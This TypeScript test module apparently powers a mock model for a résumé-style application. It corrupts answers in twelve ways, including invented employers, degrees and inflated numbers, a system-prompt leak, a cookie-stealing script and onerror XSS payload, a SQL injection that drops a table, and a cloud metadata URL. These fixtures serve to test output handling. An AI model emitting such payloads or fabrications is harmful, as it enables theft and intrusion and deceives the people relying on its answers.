/** What the stand-in answers when nobody tells it what, and the twelve ways in which it can lie. */

/** Each makes every text of an answer untrue, harmful or foreign in one way; the form of the answer stays. */
export const LIES = [
  'inflated-numbers',
  'invented-employer',
  'invented-skill',
  'invented-degree',
  'inflated-title',
  'invented-date',
  'foreign-ids',
  'invented-address',
  'markup',
  'sql',
  'leaked-prompt',
  'other-person',
] as const;
export type Lie = (typeof LIES)[number];

type Twist = (text: string, system: string) => string;

const TWISTS: Record<Lie, Twist> = {
  'inflated-numbers': (text) =>
    /\d/.test(text) ? text.replaceAll(/\d+/g, (digits) => `${digits}9`) : `${text}, cutting costs by 87%`,
  'invented-employer': (text) => `${text} at Globex Corporation`,
  'invented-skill': (text) => `${text} with Fortran and quantum annealing`,
  'invented-degree': (text) => `${text}, holding a PhD from Miskatonic University`,
  'inflated-title': (text) => `As Chief Executive Officer, ${text}`,
  'invented-date': (text) => `${text} since March 1987`,
  'foreign-ids': (text) => text,
  'invented-address': (text) => `${text} (see http://169.254.169.254/latest/meta-data/)`,
  markup: (text) =>
    `${text}<script>fetch("http://127.0.0.1:9/"+document.cookie)</script><img src=x onerror=alert(1)>`,
  sql: (text) => `${text}'; drop table account; --`,
  'leaked-prompt': (text, system) => `${text} ${system.slice(0, 300)}`,
  'other-person': (text) => `${text} Contact Mallory Intruder, mallory@evil.example, +1 202 555 0123.`,
};

/** The answer with every text twisted; short words without a space (ids, enum values, labels) only by `foreign-ids`. */
export function lieAbout(value: unknown, lie: Lie, system: string): unknown {
  if (typeof value === 'string') {
    if (lie === 'foreign-ids') return /\s/.test(value) ? value : '01900000-0000-7000-8000-00000000f00d';
    return /\s/.test(value) ? TWISTS[lie](value, system) : value;
  }
  if (Array.isArray(value)) return value.map((each) => lieAbout(each, lie, system));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, lieAbout(each, lie, system)]));
}

/** The emptiest value that fits a JSON schema; text when there is none. */
export function honestAnswer(schema: Record<string, unknown> | null): unknown {
  if (schema === null) return 'I have nothing to add.';
  if ('const' in schema) return schema['const'];
  if (Array.isArray(schema['enum'])) return schema['enum'][0];
  const choices = (schema['anyOf'] ?? schema['oneOf']) as Record<string, unknown>[] | undefined;
  if (choices) return choices.some(({ type }) => type === 'null') ? null : honestAnswer(choices[0] ?? null);
  const type = Array.isArray(schema['type'])
    ? schema['type'].includes('null')
      ? 'null'
      : schema['type'][0]
    : schema['type'];
  switch (type) {
    case 'object': {
      const properties = (schema['properties'] ?? {}) as Record<string, Record<string, unknown>>;
      return Object.fromEntries(Object.entries(properties).map(([key, each]) => [key, honestAnswer(each)]));
    }
    case 'array': {
      const least = Number(schema['minItems'] ?? 0);
      return Array.from({ length: least }, () => honestAnswer(schema['items'] as Record<string, unknown>));
    }
    case 'integer':
    case 'number':
      return Number(schema['minimum'] ?? 0);
    case 'boolean':
      return false;
    case 'null':
      return null;
    default:
      return 'x'.repeat(Number(schema['minLength'] ?? 0));
  }
}
